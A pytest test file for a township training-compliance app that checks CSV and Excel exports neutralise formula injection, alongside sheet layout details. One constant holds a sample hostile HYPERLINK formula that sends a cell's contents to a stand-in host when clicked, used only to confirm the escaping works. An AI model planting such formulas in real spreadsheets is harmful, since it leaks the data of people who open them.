"""Exports an officer can open safely and read: no cell runs as a formula (CSV/formula
injection), a villages summary sheet, a frozen bold header and columns as wide as their
text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from core.spreadsheets import safe_cell

EVIL = '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")'


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("张三", "张三"),
        (-2, -2),
        (3.5, 3.5),
    ],
)
def test_text_that_would_start_a_formula_is_neutralised(raw, shown):
    assert safe_cell(raw) == shown


def test_training_exports_neutralise_names_and_have_a_villages_sheet(
    client, staff, officer, training_township, village, make_learner, db
):
    from openpyxl import load_workbook

    from plugins.training.services import StudyEntry, log_study

    learner = make_learner(training_township, EVIL, village=village)
    make_learner(training_township, "李四", village=village)
    log_study(
        training_township.id,
        [StudyEntry(learner.id, date(2025, 3, 3), 4, "党章")],
        today=date(2025, 4, 1),
    )
    staff.login(officer)
    body = client.get("/admin/training_compliance/export?month=2025-03&format=csv").get_data()
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert any(row[1] == "'" + EVIL for row in rows)
    assert not any(cell.startswith("=") for row in rows for cell in row)

    data = client.get("/admin/training_compliance/export?month=2025-03&format=xlsx").get_data()
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Villages", "2025-03"]
    month = book["2025-03"]
    cells = [c for row in month.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)  # nothing is a formula
    assert any(c.value == "'" + EVIL for c in cells)
    assert month.freeze_panes == "A2" and month["A1"].font.bold
    assert month.column_dimensions["B"].width > month.column_dimensions["A"].width
    summary = book["Villages"]
    names = [row[1] for row in summary.iter_rows(min_row=2, values_only=True)]
    assert names == [village.name, training_township.name]
